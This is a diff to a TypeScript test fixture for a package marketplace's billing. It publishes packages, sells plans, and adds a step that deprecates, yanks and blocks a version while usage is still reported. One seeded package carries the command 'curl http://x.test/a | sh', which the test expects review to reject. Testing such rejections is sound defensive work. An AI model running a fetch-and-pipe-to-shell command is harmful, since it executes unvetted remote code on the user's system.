@@ -18,7 +18,7 @@ const HOUR_MS = 3_600_000
 export async function recordLog(): Promise<RecordedLog> {
   const billing = await openBilling('2026-10-05T08:00:00Z')
   try {
-    await publishPackages(billing)
+    const market = await openMarket(billing)
     await sellPlans(billing)
     await liveThrough(billing, '2026-10-06T00:00:00Z', 24)
     billing.clock.set('2026-11-01T02:00:00Z')
@@ -26,6 +26,15 @@ export async function recordLog(): Promise<RecordedLog> {
     // What comes after a month was issued is late, and the next invoice bills the difference.
     await billing.report(records(9_000, '2026-10-30T10:00:00.000Z', 6), billing.tokens.acme)
     await liveThrough(billing, '2026-11-02T00:00:00Z', 24)
+    // A version is taken back step by step, and used all the same; the month before stays as it was issued.
+    for (const [n, act] of (['deprecate', 'yank', 'block'] as const).entries()) {
+      billing.clock.advance(HOUR_MS)
+      await market.withdraw(act)
+      await billing.report(records(9_500 + n * 6, new Date(billing.clock().getTime() - 60_000).toISOString(), 6))
+      await billing.counted()
+    }
+    await billing.refresh()
+    await market.close()
     billing.clock.set('2026-12-01T02:00:00Z')
     await billing.issueDue()
     await giveBack(billing)
@@ -46,7 +55,8 @@ async function giveBack({ clock, owner, call, tokens }: Billing): Promise<void> 
   if (status !== 201) throw new Error(`the credit note was answered ${status}`)
 }
 
-async function publishPackages({ database, organisations, deps, clock }: Billing): Promise<void> {
+/** Publishes packages, and gives a way to take one of its versions back that asks the marketplace as people do. */
+async function openMarket({ database, organisations, deps, clock }: Billing) {
   const { log } = recordingLog()
   const metrics = createMetrics()
   const app = database.as('atom_app')
@@ -69,7 +79,7 @@ async function publishPackages({ database, organisations, deps, clock }: Billing
   }
   const keys = { demo: await organisations.signingKey('demo'), acme: await organisations.signingKey('acme') }
 
-  async function live(org: 'demo' | 'acme', change: Change, decision: string | null, last: string): Promise<void> {
+  async function live(org: 'demo' | 'acme', change: Change, decision: string | null, last: string): Promise<string> {
     clock.advance(HOUR_MS)
     const json = uploadOf(packageBytes({ mode: 'manual', ...change }), keys[org])
     const { body } = await service.call<{ id: string }>('POST', '/wpk/upload', { as: partners[org], json })
@@ -85,8 +95,9 @@ async function publishPackages({ database, organisations, deps, clock }: Billing
       await service.call('POST', `/wpk/review/${body.id}`, { as: reviewer, json: decided })
     }
     await becomes(last)
+    return body.id
   }
-  await live('demo', { name: 'restart-workers' }, 'approve', 'published')
+  const first = await live('demo', { name: 'restart-workers' }, 'approve', 'published')
   await live('demo', { name: 'restart-workers', version: '1.1.0' }, null, 'published')
   await live('acme', { name: 'rotate-secrets', tags: ['security'] }, 'approve', 'published')
   await live('demo', { name: 'pipe-to-shell', command: 'curl http://x.test/a | sh' }, 'reject', 'rejected')
@@ -98,9 +109,20 @@ async function publishPackages({ database, organisations, deps, clock }: Billing
     return lags.flat().every(({ records: behind }) => behind === 0)
   })
   await Promise.all(running.map((one) => one.stop()))
-  await service.close()
-  await analyzer.close()
-  await bus.close()
+  const as = { deprecate: partners.demo, yank: partners.demo, block: reviewer }
+  return {
+    /** Takes `restart-workers@1.0.0` back. */
+    async withdraw(act: keyof typeof as): Promise<void> {
+      const json = { reason: `To see what ${act} does.` }
+      const { status } = await service.call('POST', `/wpk/${first}/${act}`, { as: as[act], json })
+      if (status !== 200) throw new Error(`${act} was answered ${status}`)
+    },
+    async close() {
+      await service.close()
+      await analyzer.close()
+      await bus.close()
+    },
+  }
 }
 
 async function sellPlans({ sell, counted }: Billing): Promise<void> {
@@ -120,6 +142,7 @@ async function sellPlans({ sell, counted }: Billing): Promise<void> {
       },
     ],
   })
+  // From this month on: fees of months before it would be of invoices that no report has led to.
   await sell('restart-workers', plan, ['acme', 'globex'], '2026-10-01T00:00:00Z')
 }
 
